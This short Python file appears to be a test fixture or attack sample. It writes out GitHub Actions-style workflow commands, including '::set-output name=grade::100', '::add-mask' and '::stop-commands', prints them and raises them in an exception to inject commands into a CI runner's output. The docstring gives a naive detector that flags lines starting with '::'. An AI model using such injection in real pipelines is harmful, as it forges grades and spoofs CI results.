"""
attacks = "Print commands to the runner of a continuous integration."
promise = "pages"
observed = "no more"
control = "naive"
naive = "any(line.startswith('::') for line in failure.splitlines() + printed.splitlines())"
"""
COMMANDS = "\n::error file=x::hacked\n::set-output name=grade::100\n::add-mask::0\n##[error]hacked\n::stop-commands::x\n"
print(COMMANDS, flush=True)
raise ValueError(COMMANDS)
